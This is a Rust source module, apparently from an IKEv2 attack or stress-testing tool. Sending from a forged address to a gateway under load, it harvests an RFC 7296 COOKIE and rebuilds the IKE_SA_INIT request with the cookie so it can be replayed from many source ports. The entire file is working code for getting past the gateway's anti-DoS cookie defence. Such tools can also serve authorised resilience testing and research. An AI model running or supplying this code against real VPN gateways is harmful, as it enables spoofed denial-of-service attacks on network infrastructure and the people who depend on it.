//! Obtaining a COOKIE (RFC 7296 §2.6) the way an on-path attacker sees one: send a request
//! from the forged address while the gateway is under load, read the COOKIE notify in its
//! answer, and build the same request (same SPIi and Ni, which the cookie is bound to)
//! carrying it, ready to be replayed from any number of source ports.

use std::io;
use std::net::{SocketAddrV4, UdpSocket};
use std::time::{Duration, Instant};

use ike_wire::NotifyType;
use rand::Rng;

use crate::answer::Answer;
use crate::forge::Forge;

/// A request carrying a valid cookie.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CookieRequest {
    /// The cookie as the gateway sent it.
    pub cookie: Vec<u8>,
    /// The initiator SPI both the first request and this one carry.
    pub spi_i: u64,
    /// The encoded request with the COOKIE notify first (and `forge`'s padding, if any).
    pub request: Vec<u8>,
}

/// Send `forge` (without padding, so that a size limit does not hide the COOKIE answer;
/// the cookie does not cover the padding) from `socket`, which is bound to the address
/// the gateway is to believe, to `dst` every 200 ms until an answer carries a COOKIE or
/// `within` has passed. Returns the request rebuilt with the cookie (and the padding).
pub fn obtain(
    socket: &UdpSocket,
    dst: SocketAddrV4,
    forge: &Forge,
    within: Duration,
) -> io::Result<Option<CookieRequest>> {
    let mut rng = rand::rng();
    let spi_i: u64 = rng.random();
    let mut f = forge.clone();
    if f.nonce.is_none() {
        let mut n = vec![0u8; 32];
        rng.fill(&mut n[..]);
        f.nonce = Some(n);
    }
    let mut probe = f.clone();
    probe.cookie = None;
    probe.pad_to = None;
    let first = probe.build(spi_i, &mut rng);
    socket.set_read_timeout(Some(Duration::from_millis(50)))?;
    let end = Instant::now() + within;
    let mut buf = vec![0u8; 65_536];
    while Instant::now() < end {
        socket.send_to(&first, dst)?;
        let round_end = Instant::now() + Duration::from_millis(200);
        while Instant::now() < round_end {
            let n = match socket.recv(&mut buf) {
                Ok(n) => n,
                Err(e)
                    if matches!(
                        e.kind(),
                        io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut
                    ) =>
                {
                    continue
                }
                Err(e) => return Err(e),
            };
            let a = Answer::parse(&buf[..n]);
            if a.spi_i() != Some(spi_i) {
                continue;
            }
            if let Some(c) = a.notify(NotifyType::COOKIE) {
                f.cookie = Some(c.to_vec());
                return Ok(Some(CookieRequest {
                    cookie: c.to_vec(),
                    spi_i,
                    request: f.build(spi_i, &mut rng),
                }));
            }
        }
    }
    Ok(None)
}
